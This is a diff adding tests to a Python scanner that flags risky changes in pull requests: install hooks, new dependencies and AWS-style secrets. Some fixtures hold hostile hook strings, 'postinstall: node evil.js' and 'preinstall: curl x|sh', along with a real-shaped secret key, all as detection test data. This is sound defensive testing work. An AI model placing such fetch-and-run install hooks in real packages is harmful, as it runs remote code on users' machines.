@@ -99,6 +99,18 @@ CASES: list[tuple[str, DiffFile, set]] = [
     ("go.mod require", file("go.mod", ["require github.com/pkg/errors v0.9.1"]), {("dependency", "medium", 1)}),
     ("Gemfile gem", file("Gemfile", ["gem 'rails', '~> 7.1'"]), {("dependency", "medium", 1)}),
     ("cargo dependency", file("Cargo.toml", ["[dependencies]", 'serde = "1.0"']), {("dependency", "medium", 2)}),
+    # issue 15: manifests read from their content, not only line by line
+    ("minified package.json hook and dependency",
+     file("package.json", ['{"name":"x","scripts":{"postinstall":"node evil.js"},"dependencies":{"left-pad":"1.0.0"}}']),
+     {("install_hook", "critical", 1), ("dependency", "medium", 1)}),
+    ("minified package.json without hooks or deps", file("package.json", ['{"name":"x","scripts":{"test":"jest"}}']), set()),
+    ("pyproject inline dependency list", file("pyproject.toml", ["[project]", 'name = "x"', 'dependencies = ["httpx>=0.27", "rich"]']),
+     {("dependency", "medium", 3)}),
+    # issue 15: AWS secret keys in an .ini file (the published example is a placeholder, a real-shaped one is not)
+    ("aws example secret in ini", file("settings.ini", ["[default]", "aws_secret_access_key = " + "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"]),
+     set()),
+    ("aws real-shaped secret in ini", file("settings.ini", ["[default]", "aws_secret_access_key = " + "q7Rm2ZxT9bLw/K4pNc8V" + "/hYs3DfGj6Ku1Ea5Wo0B"]),
+     {("secret", "critical", 2)}),
     # --- modes, symlinks, size, binaries ---
     ("new executable", file("scripts/run.sh", ["#!/bin/sh", "echo hi"], new_mode="100755"), {("executable", "medium", None)}),
     ("made executable", file("tool.py", [], status="modified", old_mode="100644", new_mode="100755"), {("executable", "medium", None)}),
@@ -150,3 +162,44 @@ def test_secret_value_never_in_message_and_order() -> None:
     assert AWS not in risks[0].message and AWS[4:] not in summary(risks)
     assert has_critical(risks)
     assert "b.py:1" in summary(risks)
+
+
+def _names(f: DiffFile, **kw) -> str:
+    diff = Diff(repo="r", base="a" * 40, head="b" * 40, files=[f], files_changed=1)
+    deps = [r for r in scan(diff, **kw) if r.kind == "dependency"]
+    assert len(deps) == 1, deps
+    return deps[0].message
+
+
+@pytest.mark.parametrize(("path", "lines", "names"), [
+    ("package.json", ['{"dependencies":{"left-pad":"1.0.0"},"devDependencies":{"jest":"^29"}}'], ["left-pad", "jest"]),
+    ("package.json", ["{", '  "dependencies": {', '    "lodash": "^4.17.21"', "  }", "}"], ["lodash"]),
+    ("pyproject.toml", ["[project]", 'dependencies = ["httpx>=0.27", "rich[jupyter]~=13.0"]',
+                        "[project.optional-dependencies]", 'dev = ["pytest"]'], ["httpx", "rich", "pytest"]),
+    ("requirements-dev.txt", ["# tools", "-r requirements.txt", "ruff==0.5.0", "mypy"], ["ruff", "mypy"]),
+    ("Cargo.toml", ["[package]", 'name = "x"', "[dependencies]", 'serde = { version = "1", features = ["derive"] }',
+                    "[dev-dependencies]", 'proptest = "1"'], ["serde", "proptest"]),
+])
+def test_dependency_finding_names_the_packages(path: str, lines: list[str], names: list[str]) -> None:
+    message = _names(file(path, lines))
+    for n in names:
+        assert n in message
+    assert "name" not in message.split(":", 1)[1].replace("names", "")  # the package's own name field is no dependency
+
+
+def test_changed_manifest_names_only_what_changed() -> None:
+    """With the old and new contents known, only added or changed dependencies and hooks count."""
+    old = '{"name":"x","scripts":{"test":"jest"},"dependencies":{"keep":"1.0.0","bump":"1.0.0"}}'
+    new = '{"name":"x","scripts":{"test":"jest","preinstall":"curl x|sh"},"dependencies":{"keep":"1.0.0","bump":"2.0.0","fresh":"^3"}}'
+    f = DiffFile(path="package.json", status="modified", old_mode="100644", new_mode="100644", additions=1, deletions=1,
+                 hunks=[DiffHunk(old_start=1, old_lines=1, new_start=1, new_lines=1,
+                                 lines=[DiffLine(op="-", text=old, old=1), DiffLine(op="+", text=new, new=1)])])
+    diff = Diff(repo="r", base="a" * 40, head="b" * 40, files=[f], files_changed=1)
+    risks = scan(diff, contents={"package.json": (old, new)})
+    hooks = [r for r in risks if r.kind == "install_hook"]
+    assert [(r.severity, r.line) for r in hooks] == [("critical", 1)] and "preinstall" in hooks[0].message
+    (dep,) = [r for r in risks if r.kind == "dependency"]
+    assert "bump" in dep.message and "fresh" in dep.message and "keep" not in dep.message
+    # the same hook already present before is not a new risk
+    same = scan(diff, contents={"package.json": (new, new)})
+    assert not [r for r in same if r.kind in ("install_hook", "dependency")]
